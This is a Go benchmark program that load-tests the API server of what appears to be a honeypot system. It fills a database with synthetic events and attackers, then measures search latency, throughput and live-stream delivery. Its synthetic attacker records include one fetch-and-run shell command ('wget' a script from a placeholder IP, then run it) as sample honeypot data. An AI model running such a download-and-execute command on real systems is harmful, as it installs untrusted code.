// Command api-bench measures the API server under load. It fills a SQLite database
// with N synthetic events (default 1,000,000, with their bounty) and 2,000
// attackers, runs the real API server in-process on loopback, and then:
//
//  1. for a few log-search shapes and the attackers list, drives C concurrent
//     closed-loop HTTP clients (C = 50 and 500: wrk connections, or with -load go
//     goroutines of this process) and prints p50/p99 and requests/s,
//     next to the same queries run directly against the store by C goroutines
//     (no HTTP, no JSON), with the ratio of the two p50s and p99s;
//  2. for the varied shapes, offers the largest C clients an open-loop load of R
//     requests/s in all (R = 250, 500, 1000 by default), the way a crowd of
//     dashboards loads a server, and prints p50/p99 from when each request was due;
//  3. runs the closed loop of the largest C again while storing R events/s (-live,
//     100 by default): every commit makes the server recompute the answers it keeps;
//  4. opens 500 SSE clients on /api/stream and stores events at a steady rate
//     through store.Ingest + bus.Publish (what the ingester does), measuring for
//     every delivery the delay from just before the store call to the client
//     reading the event (p50/p99/max).
//
// Identical concurrent requests share one computation in the server, and an answer
// is reused until the next commit (see internal/api/coalesce.go, answers.go); the
// "(varied)" shapes make every request different. wrk and the Go clients send
// Chromium's Accept-Encoding, so a kept answer goes gzip-compressed, as to a
// dashboard, and neither inflates it (see clientTransport).
//
// Run it through bench/api.sh. Latencies of a closed loop with C clients on a
// machine with P cores include queueing: roughly C × service time / P.
package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"runtime/pprof"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"decnet/bench/internal/synth"
	"decnet/internal/api"
	"decnet/internal/bounty"
	"decnet/internal/bus"
	"decnet/internal/query"
	"decnet/internal/store"
)

func main() {
	n := flag.Int("n", 1_000_000, "events to fill the database with")
	conc := flag.String("c", "50,500", "concurrent clients, comma-separated")
	dur := flag.Duration("d", 4*time.Second, "measuring time per cell (at least one request per client is always made)")
	sse := flag.Int("sse", 500, "SSE clients")
	sseEvents := flag.Int("sse-events", 400, "events stored during the SSE measurement")
	sseRate := flag.Int("sse-rate", 100, "events per second during the SSE measurement")
	work := flag.String("dir", "", "work directory (default: a temporary one, removed after); an existing database there is reused")
	rates := flag.String("rates", "250,500,1000", "open-loop section: total requests/s offered by the clients of the largest -c, comma-separated (empty: skip)")
	liveRate := flag.Int("live", 100, "live section: events/s stored (a batch every 200 ms) while the largest -c clients search (0: skip)")
	only := flag.String("only", "", "run only the query shapes whose name matches this regular expression")
	cpuprofile := flag.String("cpuprofile", "", "write a CPU profile of the measurements (not of the fill) to this file")
	load := flag.String("load", "wrk", "closed-loop HTTP load generator: wrk (Debian's wrk, a separate process) or go (Go clients in this process)")
	flag.Parse()
	switch *load {
	case "go":
	case "wrk":
		if _, err := exec.LookPath("wrk"); err != nil {
			fmt.Fprintln(os.Stderr, "api-bench: -load wrk needs wrk on PATH (apt-get install wrk; scripts/prereqs.sh installs it), or use -load go")
			os.Exit(2)
		}
	default:
		fmt.Fprintln(os.Stderr, "api-bench: -load must be wrk or go")
		os.Exit(2)
	}
	re, err := regexp.Compile(*only)
	if err != nil {
		fmt.Fprintln(os.Stderr, "api-bench: -only:", err)
		os.Exit(2)
	}
	if err := run(*n, *conc, *dur, *sse, *sseEvents, *sseRate, *work, re, *cpuprofile, *rates, *load, *liveRate); err != nil {
		fmt.Fprintln(os.Stderr, "api-bench:", err)
		os.Exit(1)
	}
}

func run(n int, concList string, dur time.Duration, sseClients, sseEvents, sseRate int, work string, only *regexp.Regexp, cpuprofile, rateList, load string, liveRate int) error {
	var lim syscall.Rlimit
	if syscall.Getrlimit(syscall.RLIMIT_NOFILE, &lim) == nil && lim.Cur < lim.Max {
		lim.Cur = lim.Max
		syscall.Setrlimit(syscall.RLIMIT_NOFILE, &lim)
	}
	if work == "" {
		d, err := os.MkdirTemp("", "decnet-api-bench-")
		if err != nil {
			return err
		}
		defer os.RemoveAll(d)
		work = d
	}
	ctx := context.Background()
	dsn := "sqlite://" + filepath.Join(work, "decnet.db")
	st, err := store.Open(ctx, dsn)
	if err != nil {
		return err
	}
	defer st.Close()
	base := time.Now().UTC().Add(-time.Duration(n) * 100 * time.Millisecond).Truncate(time.Second)
	have, err := st.CountLogs(ctx, store.LogQuery{})
	if err != nil {
		return err
	}
	if have < int64(n) {
		if have > 0 {
			return fmt.Errorf("%s holds %d events, not %d; remove it or use another -dir", dsn, have, n)
		}
		if err := fill(ctx, st, n, base); err != nil {
			return err
		}
	} else {
		first, err := st.Logs(ctx, store.LogQuery{Ascending: true, Limit: 1})
		if err != nil || len(first) == 0 {
			return fmt.Errorf("reading the first event: %v", err)
		}
		base = first[0].Time
		fmt.Printf("reusing %s: %d events\n", dsn, have)
	}

	live := bus.New()
	defer live.Close()
	const pw = "bench-admin-password"
	srv, err := api.New(api.Config{Store: st, Bus: live, StateDir: work, AdminPassword: pw, PasswordOut: io.Discard, MaxStreams: 100000})
	if err != nil {
		return err
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	sctx, stop := context.WithCancel(ctx)
	served := make(chan error, 1)
	go func() { served <- srv.Serve(sctx, ln, nil) }()
	defer func() { stop(); <-served }()
	warm, err := srv.RowCacheWarm(ctx)
	if err != nil {
		return err
	}
	fmt.Printf("row cache warm-up at server start: %d events (%d MiB of JSON) in %s%s; the measurements start after it\n",
		warm.Events, warm.Bytes>>20, warm.Took.Round(time.Millisecond), map[bool]string{true: ", stopped full", false: ""}[warm.Full])
	baseURL := "http://" + ln.Addr().String()
	cookie, err := login(baseURL, pw)
	if err != nil {
		return err
	}

	ip := "10.9.3.17"
	lastHour := time.Now().UTC().Add(-time.Hour)
	shapes := []shape{
		{name: "newest 100 (no filter)", q: ""},
		{name: "service:ssh event:auth", q: "service:ssh event:auth"},
		{name: "attacker:" + ip, q: "attacker:" + ip},
		{name: "field username:root", q: "username:root"},
		{name: "text \"wget\"", q: `"wget"`},
		{name: "last hour (since:)", q: "since:" + lastHour.Format(time.RFC3339)},
		{name: "decky:decky-03 service:ssh", q: "decky:decky-03 service:ssh"},
	}
	for i := range shapes {
		lq, err := query.Parse(shapes[i].q)
		if err != nil {
			return err
		}
		lq.Limit = 100
		s := &shapes[i]
		s.path = "/api/logs?limit=100&q=" + url.QueryEscape(s.q)
		s.direct = func(ctx context.Context) error { _, err := st.Logs(ctx, lq); return err }
	}
	aq := store.AttackerQuery{Limit: 100}
	shapes = append(shapes, shape{name: "attackers list (100 + total)", path: "/api/attackers?limit=100",
		direct: func(ctx context.Context) error {
			if _, err := st.Attackers(ctx, aq); err != nil {
				return err
			}
			_, err := st.CountAttackers(ctx, aq)
			return err
		}})
	// Shapes whose every request differs (no two clients share a query, so the
	// server's coalescing of identical concurrent requests cannot help).
	shapes = append(shapes, shape{name: "attacker:<random of 2000> (varied)", vary: func() (string, func(context.Context) error) {
		ip := synth.AttackerIP(rand.IntN(2000))
		return "/api/logs?limit=100&q=" + url.QueryEscape("attacker:"+ip), func(ctx context.Context) error {
			_, err := st.Logs(ctx, store.LogQuery{AttackerIP: ip, Limit: 100})
			return err
		}
	}})
	shapes = append(shapes, shape{name: "page at random before_id (varied)", vary: func() (string, func(context.Context) error) {
		id := 1 + rand.Int64N(int64(n))
		return fmt.Sprintf("/api/logs?limit=100&before_id=%d", id), func(ctx context.Context) error {
			_, err := st.Logs(ctx, store.LogQuery{BeforeID: id, Limit: 100})
			return err
		}
	}})
	// What a script asking for every event's raw line gets (the dashboard's pages
	// leave raw lines out; its drawer fetches one event's).
	shapes = append(shapes, shape{name: "same, raw=1 (varied)", vary: func() (string, func(context.Context) error) {
		id := 1 + rand.Int64N(int64(n))
		return fmt.Sprintf("/api/logs?limit=100&raw=1&before_id=%d", id), func(ctx context.Context) error {
			_, err := st.Logs(ctx, store.LogQuery{BeforeID: id, Limit: 100})
			return err
		}
	}})
	dq := store.AttackerQuery{Limit: 100, Decky: "decky-03", Sort: store.SortEvents}
	shapes = append(shapes, shape{name: "attackers decky:decky-03 by events", path: "/api/attackers?limit=100&decky=decky-03&sort=event_count",
		direct: func(ctx context.Context) error {
			if _, err := st.Attackers(ctx, dq); err != nil {
				return err
			}
			_, err := st.CountAttackers(ctx, dq)
			return err
		}})

	var concs []int
	for _, f := range strings.Split(concList, ",") {
		if f == "" {
			continue
		}
		c, err := strconv.Atoi(strings.TrimSpace(f))
		if err != nil || c < 1 {
			return fmt.Errorf("bad -c %q", concList)
		}
		concs = append(concs, c)
	}
	fmt.Printf("\nAPI vs direct store, SQLite, %d events, %d CPU, closed loop, %s per cell, HTTP load from %s\n", n, runtime.NumCPU(), dur,
		map[string]string{"wrk": "wrk (another process)", "go": "Go clients in this process"}[load])
	fmt.Println("(the API computes a query once for identical concurrent requests and reuses its answer until the next\n" +
		" commit; the direct column runs every query; the (varied) shapes, where every request differs, show the\n" +
		" API without either, but with its row cache: the ids from the database, the events' JSON from memory,\n" +
		" filled by the warm-up above and by searches; events it does not hold are read and encoded; pages\n" +
		" leave each event's raw line out unless raw=1, as the dashboard's do)")
	fmt.Printf("%-36s %5s | %9s %9s %8s | %9s %9s %8s | %6s %6s\n", "query", "conc", "api p50", "api p99", "api r/s", "db p50", "db p99", "db r/s", "p50 x", "p99 x")
	if cpuprofile != "" {
		f, err := os.Create(cpuprofile)
		if err != nil {
			return err
		}
		if err := pprof.StartCPUProfile(f); err != nil {
			return err
		}
		defer pprof.StopCPUProfile()
	}
	for _, s := range shapes {
		if !only.MatchString(s.name) {
			continue
		}
		for _, c := range concs {
			direct := s.direct
			if s.vary != nil {
				direct = func(ctx context.Context) error { _, f := s.vary(); return f(ctx) }
			}
			a, err := loadAPI(load, work, baseURL, cookie, s, c, dur)
			if err != nil {
				return fmt.Errorf("%s: %w", s.name, err)
			}
			d, err := loadDirect(direct, c, dur)
			if err != nil {
				return fmt.Errorf("%s (direct): %w", s.name, err)
			}
			fmt.Printf("%-36s %5d | %9s %9s %8.0f | %9s %9s %8.0f | %6.2f %6.2f%s\n", s.name, c, ms(a.p50), ms(a.p99), a.rps, ms(d.p50), ms(d.p99), d.rps,
				float64(a.p50)/float64(max(d.p50, 1)), float64(a.p99)/float64(max(d.p99, 1)), a.cores())
		}
	}
	if liveRate > 0 && len(concs) > 0 {
		if err := liveSection(work, baseURL, cookie, st, live, shapes, only, slices.Max(concs), dur, liveRate, load); err != nil {
			return err
		}
	}
	if err := openLoopSection(baseURL, cookie, shapes, only, concs, rateList, dur); err != nil {
		return err
	}
	if len(concs) > 0 {
		// Slow cases, one client: a filter on two indexed columns that matches
		// nothing (SQLite walks one index and reads every row it lists), and the
		// overview (the API's first computation on a database whose counters were
		// never folded counts every event into them: see store's counters.go).
		fmt.Printf("\nsingle client, 3 requests each\n")
		fmt.Printf("%-36s %5s | %9s %9s %8s | %9s %9s %8s | %6s %6s\n", "query", "conc", "api p50", "api max", "", "db p50", "db max", "", "p50 x", "")
		zq := store.LogQuery{Decky: "decky-03", Service: "http", Limit: 100}
		for _, s := range []shape{
			{name: "decky:decky-03 service:http (0 hits)", path: "/api/logs?limit=100&q=" + url.QueryEscape("decky:decky-03 service:http"),
				direct: func(ctx context.Context) error { _, err := st.Logs(ctx, zq); return err }},
			{name: "stats (api: 1st cold, then cached)", path: "/api/stats",
				direct: func(ctx context.Context) error { _, err := st.Stats(ctx, store.StatsQuery{}); return err }},
		} {
			if !only.MatchString(s.name) {
				continue
			}
			var al, dl []time.Duration
			for i := range 3 {
				if s.name[0] == 's' && i > 0 {
					time.Sleep(2100 * time.Millisecond) // past the API's 2 s stats cache
				}
				a, err := loadHTTPOnce(baseURL+s.path, cookie)
				if err != nil {
					return err
				}
				t0 := time.Now()
				if err := s.direct(ctx); err != nil {
					return err
				}
				al, dl = append(al, a), append(dl, time.Since(t0))
			}
			a, d := summarize(al, time.Second), summarize(dl, time.Second)
			fmt.Printf("%-36s %5d | %9s %9s %8s | %9s %9s %8s | %6.2f\n", s.name, 1, ms(a.p50), ms(a.max), "", ms(d.p50), ms(d.max), "", float64(a.p50)/float64(d.p50))
		}
	}
	if sseClients <= 0 {
		return nil
	}
	return fanout(baseURL, cookie, st, live, sseClients, sseEvents, sseRate, n)
}

func loadHTTPOnce(u, cookie string) (time.Duration, error) {
	req, _ := http.NewRequest("GET", u, nil)
	req.Header.Set("Cookie", cookie)
	t0 := time.Now()
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		return 0, err
	}
	_, err = io.Copy(io.Discard, res.Body)
	res.Body.Close()
	if res.StatusCode != 200 {
		return 0, fmt.Errorf("GET %s: %s", u, res.Status)
	}
	return time.Since(t0), err
}

// loadAPI runs the closed loop of c clients on shape s against the API for dur,
// with wrk or Go clients (-load).
func loadAPI(load, work, baseURL, cookie string, s shape, c int, dur time.Duration) (result, error) {
	path := func() string { return s.path }
	if s.vary != nil {
		path = func() string { p, _ := s.vary(); return p }
	}
	if load != "wrk" {
		return loadHTTP(baseURL, path, cookie, c, dur)
	}
	paths := []string{s.path}
	if s.vary != nil {
		paths = make([]string, wrkPaths)
		for i := range paths {
			paths[i] = path()
		}
	}
	return loadWrk(work, baseURL, paths, cookie, c, dur)
}

// storeAndPublish stores recs and publishes the new rows on the bus, as the
// ingester does.
func storeAndPublish(st store.Store, live *bus.Bus, recs []store.Record) error {
	res, err := st.Ingest(context.Background(), store.Batch{Records: recs})
	if err != nil {
		return err
	}
	rows := make([]store.LogRow, 0, len(recs))
	for i, id := range res.IDs {
		if id > 0 {
			rows = append(rows, store.LogRow{ID: id, Record: recs[i]})
		}
	}
	live.Publish(rows)
	return nil
}

// wrkPaths is how many request paths a varied shape gives wrk to pick from.
const wrkPaths = 50000

type shape struct {
	name, q, path string
	direct        func(context.Context) error
	// vary, when set, makes a new request for every call: its path and the
	// same query for the store.
	vary func() (string, func(context.Context) error)
}

type result struct {
	p50, p99, max time.Duration
	rps           float64
	// CPU cores used during the measurement by this process (the server) and by
	// wrk; 0 when not measured (the Go load generator runs in this process)
	srvCores, genCores float64
}

// cores says how the CPU was shared during an API cell.
func (r result) cores() string {
	if r.genCores == 0 {
		return ""
	}
	return fmt.Sprintf(" | cores: server %.2f, wrk %.2f", r.srvCores, r.genCores)
}

func ms(d time.Duration) string { return fmt.Sprintf("%.2fms", float64(d)/1e6) }

func summarize(lat []time.Duration, elapsed time.Duration) result {
	slices.Sort(lat)
	pick := func(p float64) time.Duration { return lat[min(len(lat)-1, int(p*float64(len(lat))))] }
	return result{p50: pick(0.50), p99: pick(0.99), max: lat[len(lat)-1], rps: float64(len(lat)) / elapsed.Seconds()}
}

// closedLoop runs c workers calling one until dur has passed (each at least once).
func closedLoop(c int, dur time.Duration, one func() error) (result, error) {
	var (
		mu   sync.Mutex
		lat  []time.Duration
		ferr atomic.Value
		wg   sync.WaitGroup
	)
	start := time.Now()
	deadline := start.Add(dur)
	for range c {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var mine []time.Duration
			for first := true; first || time.Now().Before(deadline); first = false {
				t0 := time.Now()
				if err := one(); err != nil {
					ferr.Store(err)
					return
				}
				mine = append(mine, time.Since(t0))
			}
			mu.Lock()
			lat = append(lat, mine...)
			mu.Unlock()
		}()
	}
	wg.Wait()
	if e, ok := ferr.Load().(error); ok {
		return result{}, e
	}
	return summarize(lat, time.Since(start)), nil
}

// clientTransport is the transport of c Go clients. They send Chromium's
// Accept-Encoding and read the body as it comes, as wrk does: a browser inflates a
// gzip body on its own machine, and inflating here took the server's CPU (one
// cached search, 500 Go clients: 8,300 requests/s inflating, 13,500 not).
func clientTransport(c int) *http.Transport {
	return &http.Transport{MaxIdleConns: c, MaxIdleConnsPerHost: c, IdleConnTimeout: time.Minute, DisableCompression: true}
}

func loadHTTP(base string, path func() string, cookie string, c int, dur time.Duration) (result, error) {
	tr := clientTransport(c)
	defer tr.CloseIdleConnections()
	hc := &http.Client{Transport: tr, Timeout: 5 * time.Minute}
	return closedLoop(c, dur, func() error {
		u := base + path()
		req, _ := http.NewRequest("GET", u, nil)
		req.Header.Set("Cookie", cookie)
		req.Header.Set("Accept-Encoding", browserAcceptEncoding)
		res, err := hc.Do(req)
		if err != nil {
			return err
		}
		_, err = io.Copy(io.Discard, res.Body)
		res.Body.Close()
		if res.StatusCode != 200 {
			return fmt.Errorf("GET %s: %s", u, res.Status)
		}
		return err
	})
}

// openLoopSection measures the varied shapes the way a crowd of dashboards loads
// the server: C clients (the largest -c) that together send R requests per second
// at random (Poisson) moments, whatever the server's pace — unlike the closed loop,
// where each client sends its next request the moment the last one returns, so
// that C clients always keep C requests in flight and the latency is C divided by
// the throughput. A request's latency counts from the moment it was due, so time
// spent waiting for a free client is included (no coordinated omission).
func openLoopSection(base, cookie string, shapes []shape, only *regexp.Regexp, concs []int, rateList string, dur time.Duration) error {
	if rateList == "" || len(concs) == 0 {
		return nil
	}
	c := slices.Max(concs)
	fmt.Printf("\nopen loop: %d clients sending R requests/s in all at random moments, %s per cell\n", c, dur)
	fmt.Printf("%-36s %6s | %9s %9s %9s %8s\n", "query", "R", "p50", "p99", "max", "done/s")
	for _, s := range shapes {
		if s.vary == nil || !only.MatchString(s.name) {
			continue
		}
		for _, f := range strings.Split(rateList, ",") {
			rate, err := strconv.Atoi(strings.TrimSpace(f))
			if err != nil || rate < 1 {
				return fmt.Errorf("bad -rates %q", rateList)
			}
			r, err := openLoop(base, cookie, func() string { p, _ := s.vary(); return p }, c, rate, dur)
			if err != nil {
				return fmt.Errorf("%s: %w", s.name, err)
			}
			fmt.Printf("%-36s %6d | %9s %9s %9s %8.0f\n", s.name, rate, ms(r.p50), ms(r.p99), ms(r.max), r.rps)
		}
	}
	return nil
}

// openLoop offers rate requests/s for dur to c clients (see openLoopSection).
func openLoop(base, cookie string, path func() string, c, rate int, dur time.Duration) (result, error) {
	tr := clientTransport(c)
	defer tr.CloseIdleConnections()
	hc := &http.Client{Transport: tr, Timeout: 5 * time.Minute}
	due := make(chan time.Time, rate*int(dur/time.Second+1)+1)
	var (
		mu   sync.Mutex
		lat  []time.Duration
		ferr atomic.Value
		wg   sync.WaitGroup
	)
	for range c {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for at := range due {
				u := base + path()
				req, _ := http.NewRequest("GET", u, nil)
				req.Header.Set("Cookie", cookie)
				req.Header.Set("Accept-Encoding", browserAcceptEncoding)
				res, err := hc.Do(req)
				if err == nil {
					_, err = io.Copy(io.Discard, res.Body)
					res.Body.Close()
					if res.StatusCode != 200 {
						err = fmt.Errorf("GET %s: %s", u, res.Status)
					}
				}
				if err != nil {
					ferr.Store(err)
					continue
				}
				d := time.Since(at)
				mu.Lock()
				lat = append(lat, d)
				mu.Unlock()
			}
		}()
	}
	start := time.Now()
	next := start
	for next.Before(start.Add(dur)) {
		time.Sleep(time.Until(next))
		due <- next
		next = next.Add(time.Duration(rand.ExpFloat64() / float64(rate) * float64(time.Second)))
	}
	close(due)
	wg.Wait()
	if e, ok := ferr.Load().(error); ok {
		return result{}, e
	}
	if len(lat) == 0 {
		return result{}, fmt.Errorf("no request was made")
	}
	return summarize(lat, time.Since(start)), nil
}

func loadDirect(f func(context.Context) error, c int, dur time.Duration) (result, error) {
	ctx := context.Background()
	return closedLoop(c, dur, func() error { return f(ctx) })
}

// login logs in as admin, does the forced password change and returns the cookie.
func login(baseURL, pw string) (string, error) {
	jar, _ := cookiejar.New(nil)
	hc := &http.Client{Jar: jar}
	post := func(path, csrf string, body any) (map[string]any, error) {
		b, _ := json.Marshal(body)
		req, _ := http.NewRequest("POST", baseURL+path, bytes.NewReader(b))
		req.Header.Set("Content-Type", "application/json")
		if csrf != "" {
			req.Header.Set(api.CSRFHeader, csrf)
		}
		res, err := hc.Do(req)
		if err != nil {
			return nil, err
		}
		defer res.Body.Close()
		var out map[string]any
		json.NewDecoder(res.Body).Decode(&out)
		if res.StatusCode != 200 {
			return nil, fmt.Errorf("POST %s: %s %v", path, res.Status, out)
		}
		return out, nil
	}
	me, err := post("/api/auth/login", "", map[string]string{"username": "admin", "password": pw})
	if err != nil { // a reused database: the password was changed by an earlier run
		if me, err = post("/api/auth/login", "", map[string]string{"username": "admin", "password": pw + "-2"}); err != nil {
			return "", err
		}
	}
	if u, _ := me["user"].(map[string]any); u["must_change_password"] == true {
		csrf, _ := me["csrf_token"].(string)
		if _, err := post("/api/auth/password", csrf, map[string]string{"current_password": pw, "new_password": pw + "-2"}); err != nil {
			return "", err
		}
	}
	u, _ := url.Parse(baseURL)
	for _, c := range jar.Cookies(u) {
		if c.Name == api.SessionCookie {
			return c.Name + "=" + c.Value, nil
		}
	}
	return "", fmt.Errorf("no session cookie after login")
}

// fill stores n synthetic events 100 ms apart (package synth: the same shape as
// bench/ingest's) with their bounty, and 2,000 attackers with profiles.
func fill(ctx context.Context, st store.Store, n int, base time.Time) error {
	fmt.Printf("filling SQLite with %d events (+ bounty) and 2000 attackers…\n", n)
	start := time.Now()
	const batch = 5000
	for lo := 0; lo < n; lo += batch {
		recs := make([]store.Record, 0, batch)
		for i := lo; i < min(n, lo+batch); i++ {
			recs = append(recs, store.Record{Event: synth.Event(i, base, 100*time.Millisecond)})
		}
		if _, err := st.Ingest(ctx, store.Batch{Records: recs, Bounty: bounty.ExtractAll(recs)}); err != nil {
			return err
		}
	}
	fmt.Printf("  %d events in %s (%.0f/s)\n", n, time.Since(start).Round(time.Millisecond), float64(n)/time.Since(start).Seconds())
	var as []store.Attacker
	var bs []store.Behavior
	for a := range 2000 {
		uuid := fmt.Sprintf("00000000-0000-4000-8000-%012d", a)
		deckies := []string{fmt.Sprintf("decky-%02d", a%10), fmt.Sprintf("decky-%02d", (a+3)%10)}
		first := base.Add(time.Duration(a*50) * 100 * time.Millisecond)
		cnt := int64(n / 2000)
		as = append(as, store.Attacker{UUID: uuid, IP: synth.AttackerIP(a), FirstSeen: first, LastSeen: first.Add(time.Duration(cnt) * time.Second),
			EventCount: cnt, Deckies: deckies, Services: []string{"ssh", "http"}, IsTraversal: true, TraversalPath: strings.Join(deckies, " -> "),
			CommandCount: cnt / 4, CredentialCount: cnt / 4,
			Commands: []store.AttackerCommand{{Time: first, Decky: deckies[0], Service: "ssh", Command: "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh"}}})
		bs = append(bs, store.Behavior{AttackerUUID: uuid, BehaviorClass: "brute_forcer", OSGuess: "Linux",
			ToolGuesses: []store.ToolGuess{{Tool: "hydra", Confidence: 0.8, Evidence: []string{"libssh2 client"}}}})
		if len(as) == 500 {
			if err := st.SaveAnalysis(ctx, store.AnalysisBatch{Attackers: as, Behaviors: bs}); err != nil {
				return err
			}
			as, bs = nil, nil
		}
	}
	return nil
}

// fanout measures SSE delivery to many clients.
func fanout(baseURL, cookie string, st store.Store, live *bus.Bus, clients, events, rate, n int) error {
	fmt.Printf("\nSSE fan-out: %d clients, %d events stored at %d/s (store.Ingest + bus.Publish, as the ingester)\n", clients, events, rate)
	var sent sync.Map // event_id → time.Time just before the store call
	var (
		mu     sync.Mutex
		delays []time.Duration
		got    atomic.Int64
	)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	tr := &http.Transport{MaxConnsPerHost: 0, DisableCompression: true}
	hc := &http.Client{Transport: tr}
	var ready, done sync.WaitGroup
	errs := make(chan error, clients)
	for range clients {
		ready.Add(1)
		done.Add(1)
		go func() {
			defer done.Done()
			req, _ := http.NewRequestWithContext(ctx, "GET", baseURL+"/api/stream?q="+url.QueryEscape("service:bench"), nil)
			req.Header.Set("Cookie", cookie)
			res, err := hc.Do(req)
			if err != nil {
				errs <- err
				ready.Done()
				return
			}
			defer res.Body.Close()
			r := bufio.NewReaderSize(res.Body, 64<<10)
			greeted := false
			var mine []time.Duration
			defer func() {
				mu.Lock()
				delays = append(delays, mine...)
				mu.Unlock()
			}()
			for {
				line, err := r.ReadSlice('\n')
				if err != nil {
					if !greeted {
						ready.Done()
					}
					return
				}
				if !greeted && bytes.HasPrefix(line, []byte(": connected")) {
					greeted = true
					ready.Done()
					continue
				}
				if !bytes.HasPrefix(line, []byte("data: ")) {
					continue
				}
				now := time.Now()
				i := bytes.Index(line, []byte(`"event_id":"`))
				if i < 0 {
					continue
				}
				rest := line[i+12:]
				j := bytes.IndexByte(rest, '"')
				if t0, ok := sent.Load(string(rest[:j])); ok {
					mine = append(mine, now.Sub(t0.(time.Time)))
					got.Add(1)
				}
			}
		}()
	}
	ready.Wait()
	select {
	case err := <-errs:
		return fmt.Errorf("opening streams: %w", err)
	default:
	}
	fmt.Printf("  %d streams open\n", clients)
	const perBatch = 5
	tick := time.NewTicker(time.Second * perBatch / time.Duration(rate))
	defer tick.Stop()
	start := time.Now()
	for k := 0; k < events; k += perBatch {
		<-tick.C
		recs := make([]store.Record, 0, perBatch)
		for i := k; i < min(events, k+perBatch); i++ {
			r := store.Record{Event: synth.Event(n+i, time.Now().Add(-time.Duration(n+i)*100*time.Millisecond), 100*time.Millisecond)}
			r.Event.ID = fmt.Sprintf("bench-sse-%d-%d", start.UnixNano(), i)
			r.Service = "bench"
			recs = append(recs, r)
		}
		t0 := time.Now()
		for _, r := range recs {
			sent.Store(r.Event.ID, t0)
		}
		if err := storeAndPublish(st, live, recs); err != nil {
			return err
		}
	}
	want := int64(events * clients)
	wait := time.Now().Add(30 * time.Second)
	for got.Load() < want && time.Now().Before(wait) {
		time.Sleep(50 * time.Millisecond)
	}
	cancel()
	done.Wait()
	lagged := live.Stats().Lagged
	if len(delays) == 0 {
		return fmt.Errorf("no event was delivered")
	}
	r := summarize(delays, time.Since(start))
	fmt.Printf("%-36s | %9s %9s %9s | %s\n", "ingest → SSE delivery", "p50", "p99", "max", "delivered")
	fmt.Printf("%-36s | %9s %9s %9s | %d of %d (lagged subscribers: %d)\n", fmt.Sprintf("%d clients × %d events", clients, events),
		ms(r.p50), ms(r.p99), ms(r.max), len(delays), want, lagged)
	return nil
}
